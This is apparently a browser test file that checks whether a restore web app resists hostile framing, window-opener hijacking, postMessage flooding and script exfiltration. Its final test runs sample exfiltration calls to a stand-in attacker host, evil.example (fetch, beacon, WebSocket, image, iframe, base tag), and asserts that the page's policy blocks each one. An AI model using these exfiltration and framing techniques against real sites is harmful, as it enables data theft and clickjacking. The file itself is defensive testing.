// The hostile page around ours: it frames us, opens us, keeps a hold of us. On a host with our headers it sees nothing; on
// one without, the page says what it is in, and starts nothing.
import assert from "node:assert/strict";
import http from "node:http";
import { after, before } from "node:test";
import { CHROMIUM } from "./browser.mjs";
import { asked, useAzure, useBrowser, started, WRITES } from "./harness.mjs";
import { check, choosePoint, chooseTarget, DRILLS, gather, on, openPlan, POINTS, press, says, signIn, walkToPoints } from "./person.mjs";
import { passIn } from "./tour.mjs";

const visit = useBrowser();
const visitAzure = useAzure();
const bare = { headers: {} };
// A browser says in its own words that it does not show a frame.
const notShown = [/console: /, /request: /, /policy: /];

/** Another site, whose one page is what a test says. */
let hostile;
before(async () => {
  const server = http.createServer((_, response) => response.writeHead(200, { "content-type": "text/html" }).end(hostile.page));
  await new Promise((listening) => server.listen(0, "127.0.0.1", listening));
  // Not by the name under which ours is: another site, and not only another port.
  hostile = { page: "", address: `http://127.0.0.1:${server.address().port}/`, close: () => { server.close(); server.closeAllConnections(); } };
});
after(() => hostile?.close());
const fromElsewhere = /left for elsewhere: http:\/\/127\.0\.0\.1:/;

const html = (body) => `<!doctype html><html><body>${body}</body></html>`;
const framing = (address, attributes = "") => html(`<iframe id="f" ${attributes} width="1200" height="900" src="${address}"></iframe>`);
/** Goes to the other site, whose page frames ours; gives the frame. */
async function framed(page, address, attributes) {
  hostile.page = framing(address, attributes);
  await page.goto(hostile.address);
  return page.frameLocator("#f");
}

for (const at of ["#/", "#/demo", POINTS]) {
  visit(`a host with our headers is not shown in a frame at ${at.slice(0, 10)}, and nothing of the program is loaded`, { expect: [fromElsewhere], allow: notShown }, async ({ page, host }) => {
    await started(page);
    const before = host.requests.length;
    const frame = await framed(page, host.address + at);
    await page.waitForFunction(() => document.readyState === "complete");
    assert.equal(await frame.locator("main").count(), 0);
    assert.deepEqual(host.requests.slice(before).map(({ path }) => path).filter((path) => /\.(js|bin|wasm|json)$/.test(path)), []);
  });
}

visit("on a host without headers the frame says that it is one, and nobody leaves it for the sign-in", { site: bare, expect: [fromElsewhere], allow: notShown }, async ({ page, host }) => {
  await started(page);
  const frame = await framed(page, `${host.address}#/`);
  await frame.getByText("This page is shown inside another page").first().waitFor();
  const button = frame.getByRole("button", { name: "Sign in with Microsoft" });
  if (await button.isEnabled()) await button.click();
  await frame.getByText("This page is shown inside another page").first().waitFor();
  assert.equal(page.url(), hostile.address);
  assert.equal(page.frames().filter((one) => /login\./.test(one.url())).length, 0);
});

for (const attributes of ['sandbox="allow-scripts allow-same-origin allow-forms"', 'sandbox="allow-scripts allow-same-origin allow-top-navigation allow-popups"', 'allow="clipboard-write" credentialless']) {
  visit(`a frame with ${attributes} changes nothing of that`, { site: bare, expect: [fromElsewhere], allow: notShown }, async ({ page, host }) => {
    await started(page);
    const frame = await framed(page, `${host.address}#/`, attributes);
    await frame.getByText("This page is shown inside another page").first().waitFor();
    assert.equal(page.url(), hostile.address);
  });
}

for (const [what, sandbox] of [["no scripts", ""], ["scripts, and no origin", "allow-scripts"]]) {
  visit(`a sandbox with ${what} shows the shell at most: the program does not run there`, { site: bare, expect: [fromElsewhere], allow: [...notShown, /uncaught: /] }, async ({ page, host }) => {
    await started(page);
    const frame = await framed(page, `${host.address}#/`, `sandbox="${sandbox}"`);
    await frame.getByRole("heading", { level: 1 }).waitFor();
    await page.waitForFunction(() => document.readyState === "complete");
    assert.equal(await frame.getByRole("button", { name: /Sign in|Find/ }).count(), 0);
  });
}

visit("in a frame no restore, no plan and no container is started, wherever one is, in the simulation too",
  { site: bare, expect: [fromElsewhere], allow: notShown, prepare: (context) => context.clock.install(), only: CHROMIUM.frames },
  async ({ page, host }) => {
    await started(page);
    const frame = await framed(page, `${host.address}#/demo`);
    // A person's steps go by the words of the page: in the frame as well.
    const inside = Object.assign(frame, { keyboard: page.keyboard, url: () => page.frames()[1].url(), waitForFunction: (...rest) => page.frames()[1].waitForFunction(...rest) });
    const pass = passIn(page);
    await inside.getByText("This page is shown inside another page").first().waitFor();
    await walkToPoints(inside);
    await choosePoint(inside);
    await chooseTarget(inside);
    await check(inside, pass);
    const start = inside.getByRole("button", { name: "Start restore" });
    assert(await start.getAttribute("aria-disabled") === "true" || await start.isDisabled(), "the start can be pressed in a frame");
    await says(inside, "Nothing can be started from a frame");
    await start.click({ force: true });
    await pass(120);
    await on(inside, "Review the restore");
    // A plan, into the same container: checked, and no question is even asked.
    await page.frames()[1].evaluate(() => { location.hash = "#/demo/find"; });
    await gather(inside, ["psql-payments-demo", "psql-orders-prod"]);
    await openPlan(inside, 2);
    await press(inside, "Check all with Azure");
    await pass(120);
    const all = inside.getByRole("button", { name: /^Start 2 restores/ });
    await all.click({ force: true });
    assert.equal(await inside.getByText("Start these 2 restores?").count(), 0, "the question is asked in a frame");
    await pass(120);
    assert.equal(await inside.getByText("Azure Backup is writing the files").count(), 0);
  });

// A neighbour on the same host shares the origin, and with it the sign-in of the tab: the one case in which a frame of ours
// is signed in.
const NEIGHBOUR = "neighbour.html";
const neighbour = (at) => ({ headers: {}, change: (name, bytes) => (name === NEIGHBOUR ? Buffer.from(framing(`./index.html${at}`)) : bytes), type: (name) => (name === NEIGHBOUR ? "text/html" : undefined) });

visitAzure("a neighbour on the same host that frames a page in which somebody is signed in has nothing started by a press in it",
  { site: neighbour(POINTS), allow: [/console: /] },
  async ({ page, azure, host, pass }) => {
    await started(page);
    await signIn(page);
    await page.goto(host.address + NEIGHBOUR);
    const frame = page.frameLocator("#f");
    const inside = Object.assign(frame, { url: () => page.frames()[1].url() });
    await on(inside, DRILLS.server);
    await choosePoint(inside);
    await chooseTarget(inside);
    await says(inside, "11 are fine");
    await check(inside, pass);
    await inside.getByRole("button", { name: "Start restore" }).click({ force: true });
    await pass(60);
    await says(inside, "Nothing can be started from a frame");
    assert.deepEqual(asked(azure, WRITES).filter(({ path }) => !/validateRestore/.test(path)), []);
  });

/** Opens ours from the other site, which keeps the handle; gives our page. */
async function opened(context, page, address, name = "") {
  hostile.page = html(`<button onclick="window.w = window.open(${JSON.stringify(address).replaceAll('"', "'")}, '${name}')">open</button>`);
  await page.goto(hostile.address);
  const [ours] = await Promise.all([context.waitForEvent("page"), page.getByRole("button", { name: "open" }).click()]);
  await started(ours);
  return ours;
}

visit("with our headers whoever has opened the page has no hold of it", { expect: [fromElsewhere], allow: notShown }, async ({ page, host, context }) => {
  await started(page);
  const ours = await opened(context, page, `${host.address}#/demo/about`);
  assert.equal(await ours.evaluate(() => window.opener), null);
  assert.equal(await page.evaluate(() => window.w.closed), true);
  const url = ours.url();
  await page.evaluate(() => { try { window.w.location = "about:blank"; } catch { /* it is closed to it */ } });
  await on(ours, "About this host");
  assert.equal(ours.url(), url);
});

visit("without headers whoever has opened the page can lead it elsewhere, and to nothing that is started",
  { site: bare, expect: [fromElsewhere], allow: notShown, prepare: (context) => context.clock.install() },
  async ({ page, host, context }) => {
    await started(page);
    const ours = await opened(context, page, `${host.address}#/demo`, "a name that stays");
    const pass = passIn(ours);
    await walkToPoints(ours);
    await choosePoint(ours);
    await chooseTarget(ours);
    const review = ours.url();
    await check(ours, pass);
    const lead = (to) => page.evaluate((to) => { window.w.location = to; }, to);
    // Messages of every kind, and the same page over and over, right before a press.
    await page.evaluate((review) => {
      const shapes = [null, 1, "start", { type: "start" }, { method: "Start restore", pgflex: true }, [review], new ArrayBuffer(8), new Map([["event", "StartPressed"]])];
      for (let i = 0; i < 2000; i++) window.w.postMessage(shapes[i % shapes.length], "*");
    }, review);
    for (let i = 0; i < 20; i++) await lead(`${review}&x=${i}`);
    await on(ours, "Review the restore");
    assert.equal(await ours.getByText("It is creating a job for it").count(), 0, "something was started");
    await lead(`${host.address}#/demo/restore?v=1&${review.split("v=1&")[1]}&prefix=evil-1`);
    await ours.getByRole("heading", { level: 1 }).waitFor();
    await pass(60);
    assert.equal(await ours.getByText(/Azure Backup is writing the files|The request is on its way/).count(), 0);
    // What it can read of ours across sites: nothing.
    assert.equal(await page.evaluate(() => { try { return String(window.w.document ?? window.w.localStorage); } catch (error) { return error.name; } }), "SecurityError");
  });

visit("messages from another window are heard by nobody", { at: "#/demo/about" }, async ({ page }) => {
  await on(page, "About this host");
  const before = await page.locator("body").innerText();
  await page.evaluate(() => new Promise((done) => {
    for (const type of ["message", "messageerror", "storage"]) {
      for (let i = 0; i < 500; i++) window.dispatchEvent(type === "storage" ? new StorageEvent(type, { key: `pgflex.demo.${i}`, newValue: "{}" }) : new MessageEvent(type, { data: { type: "start", i } }));
    }
    setTimeout(done);
  }));
  assert.equal(await page.locator("body").innerText(), before);
});

// --- What leaves the page ---------------------------------------------------------------------------------

visit("a script that got into the page after all could send nothing to anybody", { expect: [/policy: connect-src/, /policy: img-src/, /policy: style-src/, /policy: base-uri/, /policy: frame-src/], allow: [/policy: /, /console: /, /request: /, /left for elsewhere: /] }, async ({ page, troubles }) => {
  await started(page);
  const results = await page.evaluate(async () => {
    const loads = (made) => new Promise((done) => { made.onload = () => done("loaded"); made.onerror = () => done("blocked"); document.body.append(made); setTimeout(() => done("blocked"), 1000); });
    const made = (name, properties) => Object.assign(document.createElement(name), properties);
    const attempt = async (work) => { try { return (await work()) ?? "done"; } catch { return "blocked"; } };
    return {
      fetch: await attempt(async () => { await fetch("https://evil.example/?eyJ", { mode: "no-cors" }); }),
      beacon: navigator.sendBeacon("https://evil.example/", "x") && "queued",
      socket: await attempt(() => new Promise((done) => { const socket = new WebSocket("wss://evil.example/"); socket.onopen = () => done("open"); socket.onerror = () => done("blocked"); })),
      image: await loads(made("img", { src: "https://evil.example/x.png" })),
      frame: (document.body.append(made("iframe", { src: "https://evil.example/" })), "appended"),
      style: getComputedStyle((() => { const part = made("div"); part.setAttribute("style", "position: fixed"); document.body.append(part); return part; })()).position,
      sheet: (() => { const sheet = made("style", { textContent: "h1 { position: fixed }" }); document.head.append(sheet); return getComputedStyle(document.querySelector("h1")).position; })(),
      base: (() => { document.head.append(made("base", { href: "https://evil.example/" })); return document.baseURI.startsWith("https://evil") ? "moved" : "blocked"; })(),
      worker: await attempt(() => new Promise((done) => { const worker = new Worker("data:text/javascript,postMessage(1)"); worker.onmessage = () => done("runs"); worker.onerror = () => done("blocked"); })),
    };
  });
  assert.equal(results.fetch, "blocked");
  assert.equal(results.socket, "blocked");
  assert.equal(results.image, "blocked");
  assert.equal(results.style, "static");
  assert.equal(results.sheet, "static");
  assert.equal(results.base, "blocked");
  assert.equal(results.worker, "blocked");
  assert.equal(page.frames().filter((frame) => /evil/.test(frame.url())).length, 0);
  // The browser tells of what it has refused a little later.
  for (let looks = 0; looks < 200 && !troubles.some((trouble) => /policy: frame-src/.test(trouble)); looks++) await page.evaluate(() => new Promise((done) => setTimeout(done, 10)));
});
